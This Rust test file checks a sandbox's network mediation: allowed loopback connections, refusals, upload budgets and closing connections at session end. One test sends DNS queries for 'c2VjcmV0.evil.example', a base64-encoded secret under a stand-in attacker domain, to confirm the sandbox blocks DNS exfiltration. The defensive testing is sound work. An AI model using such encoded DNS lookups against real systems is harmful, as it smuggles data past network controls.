//! From the server to the outside.

use std::io::Read;
use std::net::TcpListener;
use std::sync::mpsc::channel;
use std::time::Duration;

use serde_json::json;

use super::{BACKENDS, events, loopback, outside, profile, server, session, shout};
use crate::support::{World, finish};

#[test]
fn a_granted_server_is_reached_and_the_connection_is_on_record_with_its_call() {
    for backend in BACKENDS {
        let world = World::new();
        let to = server(shout);
        profile(&world, &format!("[net]\nallow = [{}]", loopback(to.port(), "")));
        let talk = json!({ "host": "127.0.0.1", "port": to.port(), "send": "hello" });
        let session = session(&world, backend, &[], &[("talk", talk)]);
        assert_eq!(session.answers, ["HELLO"], "{backend}: {session:#?}");
        let event = session.one("net.connect");
        assert_eq!((&event["host"], &event["port"]), (&"127.0.0.1".into(), &to.port().into()));
        assert_eq!(event["class"], "loopback");
        assert_eq!(event["during"]["calls"][0]["item"], "talk", "{event}");
        assert_eq!(event["during"]["calls"][0]["id"], "10", "{event}");
        assert_eq!(session.one("net.first_seen")["port"], to.port());
        assert!(
            !session.events.iter().any(|event| event.to_string().contains("hello")),
            "no payload on record"
        );
        assert_eq!(session.code, 0);
    }
}

#[test]
fn what_is_not_granted_is_refused_at_once_and_recorded() {
    for backend in BACKENDS {
        let world = World::new();
        let (to, other) = (server(shout), server(shout));
        profile(&world, &format!("[net]\nallow = [{}]", loopback(to.port(), "")));
        let same_port = json!({ "host": "10.11.12.13", "port": to.port(), "send": "x" });
        let other_port = json!({ "host": "127.0.0.1", "port": other.port(), "send": "x" });
        assert_eq!(outside(&world, "talk", &other_port), "X", "the positive control");
        let session = session(&world, backend, &[], &[("talk", same_port), ("talk", other_port)]);
        for answer in &session.answers {
            let refused = ["ECONNREFUSED", "ECONNRESET", "EACCES"].contains(&answer.as_str());
            assert!(refused, "{backend}: {session:#?}");
        }
        let event = session
            .of("net.refused")
            .into_iter()
            .find(|event| event["what"] == json!(format!("10.11.12.13:{}", to.port())));
        let event = event.unwrap_or_else(|| panic!("{backend}: {session:#?}"));
        assert!(event["fragment"].as_str().unwrap().contains("10.11.12.13"), "{event}");
        assert!(session.stderr.contains("10.11.12.13"), "{}", session.stderr);
        assert!(session.of("net.connect").is_empty());
    }
}

#[test]
fn a_budget_ends_what_goes_out() {
    for backend in BACKENDS {
        let world = World::new();
        let (tell, told) = channel();
        let to = server(move |mut stream| {
            let (mut total, mut chunk) = (0_u64, [0; 65536]);
            while let Ok(length @ 1..) = stream.read(&mut chunk) {
                total += length as u64;
            }
            let _ = tell.send(total);
        });
        let grant = loopback(to.port(), "upload = \"1MiB\", ");
        profile(&world, &format!("[net]\nallow = [{grant}]"));
        let all = json!({ "host": "127.0.0.1", "port": to.port(), "size": 8 << 20 });
        assert_eq!(outside(&world, "upload", &all), "done", "the positive control");
        assert_eq!(told.recv_timeout(Duration::from_secs(10)), Ok(8 << 20));
        let session = session(&world, backend, &[], &[("upload", all)]);
        assert!(["ECONNRESET", "EPIPE"].contains(&session.answers[0].as_str()), "{backend}: {session:#?}");
        assert!(told.recv_timeout(Duration::from_secs(10)).unwrap() <= 1 << 20);
        assert_eq!(session.one("net.connect")["ended"], "over budget");
        assert!(session.one("net.refused")["fragment"].as_str().unwrap().contains("upload"));
    }
}

#[test]
fn names_that_are_not_granted_do_not_exist_whoever_is_asked() {
    for backend in BACKENDS {
        let world = World::new();
        profile(&world, "[net]\nallow = [{ host = \"api.example.org\", port = 443, reason = \"a test\" }]");
        let calls = [
            ("lookup", json!({ "host": "c2VjcmV0.evil.example" })),
            ("ask", json!({ "server": "8.8.8.8", "name": "c2VjcmV0.evil.example" })),
            ("ask", json!({ "server": "127.0.0.53", "name": "c2VjcmV0.evil.example" })),
            ("ask", json!({ "server": "9.9.9.9", "name": "c2VjcmV0.evil.example", "over": "tcp" })),
            ("lookup", json!({ "host": "localhost" })),
        ];
        let session = session(&world, backend, &[], &calls);
        assert_eq!(session.answers[0], "gaierror", "{backend}: {session:#?}");
        for (answer, asked) in session.answers[1..3].iter().zip(["8.8.8.8", "127.0.0.53"]) {
            // `notify` can only say that it was the first name server of resolv.conf.
            let from = if backend == "namespaces" { asked } else { "" };
            assert!(answer.starts_with(&format!("3 from {from}")), "{backend}: {answer}");
        }
        assert_eq!(session.answers[3], "3 3", "both questions of one write are answered");
        assert!(session.answers[4].contains("127.0.0.1"), "the positive control: {session:#?}");
        let event = session.one("net.dns_refused");
        assert_eq!(event["what"], "c2vjcmv0.evil.example");
        assert_eq!(session.one("net.summary")["dns_refused"].as_u64().map(|count| count >= 4), Some(true));
    }
}

#[test]
fn where_nobody_listens_the_server_hears_of_it_at_once() {
    for backend in BACKENDS {
        let world = World::new();
        let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        profile(&world, &format!("[net]\nallow = [{}]", loopback(closed.port(), "")));
        let talk = json!({ "host": "127.0.0.1", "port": closed.port(), "send": "x" });
        let session = session(&world, backend, &[], &[("talk", talk)]);
        assert!(
            ["ECONNRESET", "ECONNREFUSED"].contains(&session.answers[0].as_str()),
            "{backend}: {session:#?}"
        );
    }
}

#[test]
fn the_end_of_the_session_ends_its_connections() {
    for backend in BACKENDS {
        let world = World::new();
        let (tell, told) = channel();
        let to = server(move |mut stream| {
            let _ = stream.read(&mut [0; 1]);
            let _ = tell.send(());
        });
        profile(
            &world,
            &format!("[net]\nallow = [{}]\n[limits]\nupload = \"1MiB\"", loopback(to.port(), "")),
        );
        let hold = json!({ "host": "127.0.0.1", "port": to.port() });
        let session = session(&world, backend, &[], &[("hold", hold)]);
        assert_eq!(session.answers, ["open"]);
        assert_eq!(told.recv_timeout(Duration::from_secs(10)), Ok(()), "{backend}: still open");
        assert_eq!(session.of("net.connect").len(), 1);
        assert_eq!(session.events.last().unwrap()["kind"], "session.end");
    }
}

#[test]
fn a_program_in_a_jail_without_a_mediator_reaches_what_is_granted_too() {
    for backend in BACKENDS {
        let world = World::new();
        let to = server(shout);
        profile(&world, &format!("[net]\nallow = [{}]", loopback(to.port(), "")));
        let python = "import socket, sys\n\
                      s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), 20)\n\
                      s.sendall(b'hello'); s.shutdown(socket.SHUT_WR); print(s.recv(99))";
        let port = to.port().to_string();
        let words = [
            "jail",
            "--backend",
            backend,
            "--profile",
            "connected",
            "--",
            "/usr/bin/python3",
            "-c",
            python,
            &port,
        ];
        let finished = finish(world.stockade(words).spawn().unwrap(), Duration::from_secs(60));
        assert_eq!(finished.stdout_text(), "b'HELLO'\n", "{backend}: {finished:#?}");
        let events = events(&world);
        let connected = events.iter().find(|event| event["kind"] == "net.connect");
        assert_eq!(connected.unwrap_or_else(|| panic!("{events:#?}"))["what"]["port"], to.port());
    }
}
